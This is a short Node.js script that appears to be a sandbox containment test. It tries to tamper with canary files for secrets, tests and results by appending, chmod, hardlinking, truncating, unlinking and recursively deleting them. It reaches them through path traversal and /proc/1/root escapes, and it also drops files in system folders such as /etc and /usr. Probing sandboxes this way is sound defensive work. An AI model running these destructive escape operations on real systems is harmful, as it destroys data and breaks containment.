// Overwrites the canary files, leaves files everywhere, and changes modes, times and names outside.

import fs from 'node:fs';
import path from 'node:path';
import { done, quietly, target } from './attack.mjs';

const token = target('TOKEN');
for (const name of [target('SECRET'), target('TESTS'), target('RESULTS')]) {
  for (const way of [name, '../'.repeat(30) + name.slice(1), `/proc/1/root${name}`]) {
    quietly(() => fs.appendFileSync(way, 'appended'));
    quietly(() => fs.chmodSync(way, 0o755));
    quietly(() => fs.utimesSync(way, 1, 1));
    quietly(() => fs.linkSync(way, 'hard'));
    quietly(() => fs.cpSync(way, 'copy', { recursive: true }));
    quietly(() => fs.truncateSync(way));
    quietly(() => fs.unlinkSync(way));
    quietly(() => fs.rmSync(path.dirname(way), { recursive: true, force: true }));
  }
}
const folders = ['/tmp', '/var/tmp', '/dev/shm', '/', '/usr', '/etc', target('HOME'), target('REAL_HOME')];
for (const folder of [...folders, path.dirname(target('TESTS')), path.dirname(path.dirname(process.execPath))]) {
  for (const way of [folder, `/proc/1/root${folder}`, '../'.repeat(30) + folder.slice(1)]) {
    quietly(() => fs.writeFileSync(`${way}/${token}.left`, 'left'));
  }
}
done();
